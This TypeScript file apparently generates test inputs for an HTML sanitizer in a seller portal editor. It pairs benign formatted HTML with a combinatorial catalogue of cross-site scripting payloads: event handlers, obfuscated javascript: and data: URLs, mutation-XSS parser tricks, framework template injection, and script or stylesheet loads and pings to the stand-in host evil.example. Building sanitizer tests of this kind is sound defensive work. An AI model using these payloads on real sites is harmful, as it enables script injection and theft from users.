/** HTML that tries to do something, made from families: what is tried × where × how it is written (S-5). */

/** What a payload would do, so that a browser test could notice it. */
const call = 'alert(1)'

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onblur',
  'onanimationstart',
  'onanimationend',
  'ontransitionend',
  'onbegin',
  'onend',
  'onrepeat',
  'ontoggle',
  'onbeforetoggle',
  'onpointerover',
  'onpointerdown',
  'onpointerrawupdate',
  'onwheel',
  'onscroll',
  'onscrollend',
  'oncopy',
  'onpaste',
  'oncut',
  'ondrag',
  'ondrop',
  'oninput',
  'onchange',
  'oninvalid',
  'onsubmit',
  'onreset',
  'onkeydown',
  'onplay',
  'oncanplay',
  'ontimeupdate',
  'onhashchange',
  'onpageshow',
  'onmessage',
  'onunhandledrejection',
  'onbeforematch',
  'oncontentvisibilityautostatechange',
]

const carriers = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'details open',
  'select autofocus',
  'textarea autofocus',
  'marquee',
  'iframe src=x',
  'object data=x',
  'embed src=x',
  'a href=#',
  'p',
  'h2',
  'td',
  'table',
  'li',
  'blockquote',
  'code',
  'pre',
  'hr',
  'br',
  'strong',
  'custom-part',
  'math',
  'form',
  'button',
  'style',
  'link',
  'dialog open',
]

const separators = [' ', '/', '\t', '\n', '\f', '\r', '\u0000', '/x=">" ', " x='>' "]

const schemes = [
  'javascript',
  'JaVaScRiPt',
  'vbscript',
  'data',
  'blob',
  'file',
  'view-source',
  'livescript',
  'filesystem',
]

const disguises: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => ` \u0001${address}`,
  (address) => address.replace(/^(..)/, '$1\t'),
  (address) => address.replace(/^(...)/, '$1\n'),
  (address) => address.replace(/^(....)/, '$1&#9;'),
  (address) => address.replace(':', '&colon;'),
  (address) => address.replace(':', '&#58;'),
  (address) => address.replace(':', '&#x0003a'),
  (address) => address.replaceAll(/^\w/g, (letter) => `&#${letter.charCodeAt(0)};`),
  (address) => address.replaceAll(/^\w/g, (letter) => `&#x${letter.charCodeAt(0).toString(16)}`),
  (address) => address.replace(/^(.)/, '$1\u200b'),
  (address) => `&NewLine;${address}`,
  (address) => `\u0000${address}`,
  (address) => `https:${address}`.replace('https:', '&Tab;'),
  (address) => encodeURI(address),
]

const places: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}'>x</a>`,
  (address) => `<a href=${address}>x</a>`,
  (address) => `<a href="https://ok.example" href="${address}">x</a>`,
  (address) => `<a xlink:href="${address}">x</a>`,
  (address) => `<area href="${address}">`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<button formaction="${address}">x</button>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<base href="${address}">`,
  (address) => `<link rel=stylesheet href="${address}">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<img src="${address}">`,
  (address) => `<video poster="${address}"></video>`,
  (address) => `<table background="${address}"><tr><td background="${address}">x</td></tr></table>`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `<svg><use href="${address}"/></svg>`,
  (address) => `<svg><animate attributeName=href values="${address}"/></svg>`,
  (address) => `<svg><set attributeName=href to="${address}"/></svg>`,
  (address) => `<math href="${address}">x</math>`,
  (address) =>
    `<math><maction actiontype="statusline#${address}" xlink:href="${address}">x</maction></math>`,
  (address) => `<blockquote cite="${address}">x</blockquote>`,
  (address) => `<p style="background:url(${address})">x</p>`,
]

/** Places in which a parser reads by other rules, so that text becomes a tag for the next reader. */
const shells: readonly ((inner: string) => string)[] = [
  (inner) => `<noscript><p title="</noscript>${inner}">`,
  (inner) => `<svg><style><p title="</style>${inner}">`,
  (inner) => `<svg></p><style><a id="</style>${inner}">`,
  (inner) => `<math><mtext><table><mglyph><style><!--</style>${inner}`,
  (inner) => `<math><mtext><mglyph><style><p title="</style>${inner}">`,
  (inner) => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
  (inner) => `<svg><title><p title="</title>${inner}">`,
  (inner) => `<svg><desc><p>${inner}</p></desc></svg>`,
  (inner) => `<svg><foreignObject>${inner}</foreignObject></svg>`,
  (inner) => `<math><annotation-xml encoding="text/html">${inner}</annotation-xml></math>`,
  (inner) => `<math><mi><style><!--</style>${inner}--></mi></math>`,
  (inner) => `<template>${inner}</template>`,
  (inner) => `<template shadowrootmode=open>${inner}</template>`,
  (inner) => `<textarea><p title="</textarea>${inner}">`,
  (inner) => `<title><p title="</title>${inner}">`,
  (inner) => `<xmp><p title="</xmp>${inner}">`,
  (inner) => `<noembed><p title="</noembed>${inner}">`,
  (inner) => `<noframes><p title="</noframes>${inner}">`,
  (inner) => `<iframe srcdoc='${inner.replaceAll("'", '&#39;')}'></iframe>`,
  (inner) => `<iframe><p title="</iframe>${inner}">`,
  (inner) => `<plaintext>${inner}`,
  (inner) => `<select><template>${inner}</template></select>`,
  (inner) => `<select><option><style></select>${inner}</style>`,
  (inner) => `<table><td><svg><style>${inner}</style>`,
  (inner) => `<!--><p>${inner}-->`,
  (inner) => `<!--->${inner}-->`,
  (inner) => `<!-- --!>${inner}-->`,
  (inner) => `<!${inner}>`,
  (inner) => `<?xml ${inner}?>`,
  (inner) => `<![CDATA[${inner}]]>`,
  (inner) => `<svg><![CDATA[><${inner}]]></svg>`,
  (inner) => `<a href="https://x.example/&quot;>${inner}">x</a>`,
  (inner) => `<a href="https://x.example/"title="${inner.replaceAll('"', '&quot;')}">x</a>`,
  (inner) => `<p title='"'>${inner}<p title='"'>`,
  (inner) => `${'<p>'.repeat(300)}${inner}`,
  (inner) => `${'<table><tr><td>'.repeat(60)}${inner}`,
  (inner) => `<a><table><a>${inner}</a></table></a>`,
  (inner) => `<p>${inner.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e')}</p>`,
  (inner) => `<p>${inner.replaceAll('<', '&lt;').replaceAll('>', '&gt;')}</p>`,
  (inner) => `<p>${inner.replaceAll('<', '&amp;lt;')}</p>`,
  (inner) => `\ufeff<\u0000p>${inner}`,
]

const cores = [
  `<script>${call}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${call}</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<<script>${call}//<</script>`,
  `<script/x>${call}</script>`,
  `<SCRIPT>${call}</SCRIPT\u0000>`,
  `<img src=x onerror=${call}>`,
  `<img src=x onerror=${call}//`,
  `<img src=\`x\` onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script xlink:href=data:,${call} /></svg>`,
  `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  `<a href=javascript:${call}>x</a>`,
  `<a href="//evil.example">x</a>`,
  `<a href="/api/v1/sessions" ping="https://evil.example">x</a>`,
  `<form id=attributes><input name=nodeName><input name=innerHTML></form>`,
  `<p is="custom-part" slot=x part=y id=app name=body contenteditable>x</p>`,
  `<p style="position:fixed;inset:0;width:expression(${call})">x</p>`,
  `<style>@import '//evil.example/x.css';*{background:url(//evil.example)}</style>`,
  `<link rel=preload as=script href=//evil.example/x.js>`,
  `<img srcset="//evil.example/a 1x" loading=eager>`,
  `<video><source onerror=${call}></video>`,
  `<object><param name=movie value=//evil.example></object>`,
  `<body onload=${call}>`,
  `<html manifest=//evil.example><head><base href=//evil.example></head>`,
  `{{constructor.constructor('${call}')()}}<p v-html="x" v-on:click="${call}" @click="${call}" :href="x">x</p>`,
  `<p data-bind="x" x-data="${call}" ng-app hx-get="//evil.example">x</p>`,
]

const ends = [
  '',
  '">',
  "'>",
  '-->',
  ']]>',
  '</script>',
  '</style>',
  '</textarea>',
  '</title>',
  '</div></div>',
  '\\"><',
]

/** Every payload of every family. */
export function hostileHtml(): string[] {
  return [
    ...carriers.flatMap((carrier) =>
      handlers.map((handler, i) => {
        const separator = separators[i % separators.length]
        return `<${carrier}${separator}${handler}=${i % 2 ? `"${call}"` : call}>x`
      }),
    ),
    ...places.flatMap((place, at) =>
      disguises.map((disguise, i) => {
        const scheme = schemes[(i + at) % schemes.length] ?? 'javascript'
        const rest = scheme === 'data' ? `text/html,<script>${call}</script>` : call
        return place(disguise(`${scheme}:${rest}`))
      }),
    ),
    ...disguises.map((disguise) => `<a href="${disguise(`javascript:${call}`)}">x</a>`),
    ...shells.flatMap((shell) => cores.map(shell)),
    ...ends.flatMap((end) => cores.map((core) => end + core)),
  ]
}

const texts = [
  'Searches logs of all servers.',
  '支持所有地域的日志检索。',
  'Größer, schneller & “besser” – 100 % <a>'.replace(' & ', ' &amp; ').replace('<a>', '&lt;a&gt;'),
  '<strong>Bold</strong>, <em>slanted</em>, <u>under</u>, <s>struck</s> and <code>x = 1</code>.',
  'Write to <a href="mailto:help@larch.example" rel="noopener nofollow ugc" target="_blank">us</a>.',
  'See <a href="https://larch.example/docs?a=1&amp;b=2#top" rel="noopener nofollow ugc" target="_blank">the guide</a>.',
  'First line<br />second line',
  '🚀 ➜ café naïve Ω ≥ 5',
]

/** What honest sellers write, as the editor of the portal hands it in: it is kept as it is. */
export function honestHtml(): string[] {
  const blocks: readonly ((text: string) => string)[] = [
    (text) => `<p>${text}</p>`,
    (text) => `<h2>${text}</h2><p>${text}</p>`,
    (text) => `<h3>${text}</h3><h4>${text}</h4>`,
    (text) => `<ul><li><p>${text}</p></li><li><p>${text}</p></li></ul>`,
    (text) => `<ol start="3"><li>${text}</li></ol>`,
    (text) => `<ul><li>${text}<ul><li>${text}</li></ul></li></ul>`,
    (text) => `<blockquote><p>${text}</p></blockquote><hr />`,
    (text) => `<pre><code>${text}</code></pre>`,
    (text) =>
      `<table><thead><tr><th colspan="2">${text}</th></tr></thead><tbody><tr><td>${text}</td><td rowspan="2">${text}</td></tr></tbody></table>`,
  ]
  return blocks.flatMap((block) => texts.map(block))
}
